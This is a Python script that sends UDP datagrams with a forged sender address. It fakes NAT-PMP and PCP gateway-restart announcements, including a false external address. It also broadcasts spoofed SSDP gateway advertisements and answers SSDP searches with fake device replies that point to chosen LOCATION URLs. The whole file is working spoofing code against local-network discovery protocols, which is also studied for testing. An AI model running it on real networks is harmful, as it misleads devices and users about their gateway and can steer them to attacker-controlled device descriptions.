#!/usr/bin/env python3
"""A neighbour who lies: datagrams with another host's address as their sender.

    forge.py nat-pmp --external ADDRESS          "the gateway has restarted and has this address" (RFC 6886, 3.2.1)
    forge.py pcp                                 "the gateway has restarted" (RFC 6887, 14.1.1)
    forge.py notify --usn UUID [--boot-id N]     ssdp:alive, to the group; with a BOOTID that grows unless it is given
    forge.py answers --locations URL...          to each search, an answer for each location, as of as many devices
    forge.py listen                              is no liar: prints what arrives in the groups, and from whom

`--as` is the sender that is claimed, `--own` the address of this host, which says by which interface to send. What is
sent once is sent `--count` times, `--every` so many seconds.
"""

import argparse
import itertools
import select
import socket
import struct
import sys
import time

SSDP, SSDP_PORT = "239.255.255.250", 1900
HOSTS, ANNOUNCED_PORT, SERVER_PORT = "224.0.0.1", 5350, 5351
IGD = "urn:schemas-upnp-org:device:InternetGatewayDevice:1"


class Forger:
    """Writes the header itself; the kernel fills in the length and the checksum."""

    def __init__(self, sender, own):
        self.sender = socket.inet_aton(sender)
        self.raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))

    def send(self, source_port, peer, payload):
        address, port = peer
        udp = struct.pack(">HHHH", source_port, port, 8 + len(payload), 0) + payload
        header = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 4, socket.IPPROTO_UDP, 0, self.sender, socket.inet_aton(address))
        self.raw.sendto(header + udp, (address, 0))


def message(*lines):
    return ("\r\n".join(lines) + "\r\n\r\n").encode("ascii")


def notify(usn, location, boot_id):
    return message(
        "NOTIFY * HTTP/1.1",
        f"HOST: {SSDP}:{SSDP_PORT}",
        "CACHE-CONTROL: max-age=120",
        f"LOCATION: {location}",
        "SERVER: Other/1.0 UPnP/1.1 Stack/1.0",
        f"NT: {IGD}",
        f"USN: uuid:{usn}::{IGD}",
        "NTS: ssdp:alive",
        f"BOOTID.UPNP.ORG: {boot_id}",
        "CONFIGID.UPNP.ORG: 1",
    )


def answer(number, target, location):
    return message(
        "HTTP/1.1 200 OK",
        "CACHE-CONTROL: max-age=120",
        f"ST: {target}",
        f"USN: uuid:6d0e2a54-0000-4000-8000-{number:012d}::{target}",
        "EXT:",
        "SERVER: Other/1.0 UPnP/1.1 Stack/1.0",
        f"LOCATION: {location}",
    )


def listener(group, port, own):
    heard = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    heard.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    heard.bind((group, port))
    membership = struct.pack("4s4s", socket.inet_aton(group), socket.inet_aton(own))
    heard.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, membership)
    return heard


def search_target(datagram):
    lines = datagram.decode("latin-1").split("\r\n")
    if not lines[0].startswith("M-SEARCH * "):
        return None
    values = (line.partition(":")[2].strip() for line in lines if line.lower().startswith("st:"))
    return next(values, None)


def answer_searches(forger, own, locations):
    heard = listener(SSDP, SSDP_PORT, own)
    print("ready", flush=True)
    while True:
        datagram, peer = heard.recvfrom(2048)
        target = search_target(datagram)
        if target is None:
            continue
        target = IGD if target in ("ssdp:all", "upnp:rootdevice") else target
        for number, location in enumerate(locations):
            forger.send(SSDP_PORT, peer, answer(number, target, location))
        print(f"answered {peer[0]}:{peer[1]} {target}", flush=True)


def listen(own):
    groups = [listener(SSDP, SSDP_PORT, own), listener(HOSTS, ANNOUNCED_PORT, own)]
    print("ready", flush=True)
    while True:
        for heard in select.select(groups, [], [])[0]:
            datagram, peer = heard.recvfrom(2048)
            print(f"heard from {peer[0]}:{peer[1]} {datagram[:12]!r}", flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("what", choices=["nat-pmp", "pcp", "notify", "answers", "listen"])
    parser.add_argument("--own", required=True)
    parser.add_argument("--as", dest="sender")
    parser.add_argument("--external", default="0.0.0.0")
    parser.add_argument("--usn")
    parser.add_argument("--location")
    parser.add_argument("--boot-id", type=int)
    parser.add_argument("--locations", nargs="+")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--every", type=float, default=0.0)
    args = parser.parse_args()
    if args.what == "listen":
        listen(args.own)
    forger = Forger(args.sender, args.own)
    if args.what == "answers":
        answer_searches(forger, args.own, args.locations)
    boot_ids = itertools.repeat(args.boot_id) if args.boot_id is not None else itertools.count(int(time.time()))
    for _, boot_id in zip(range(args.count), boot_ids):
        if args.what == "notify":
            forger.send(SSDP_PORT, (SSDP, SSDP_PORT), notify(args.usn, args.location, boot_id))
        elif args.what == "nat-pmp":
            announcement = struct.pack(">BBHI4s", 0, 128, 0, 0, socket.inet_aton(args.external))
            forger.send(SERVER_PORT, (HOSTS, ANNOUNCED_PORT), announcement)
        else:
            forger.send(SERVER_PORT, (HOSTS, ANNOUNCED_PORT), struct.pack(">BBBBII12x", 2, 0x80, 0, 0, 0, 0))
        time.sleep(args.every)


if __name__ == "__main__":
    try:
        main()
    except KeyboardInterrupt:
        sys.exit(130)
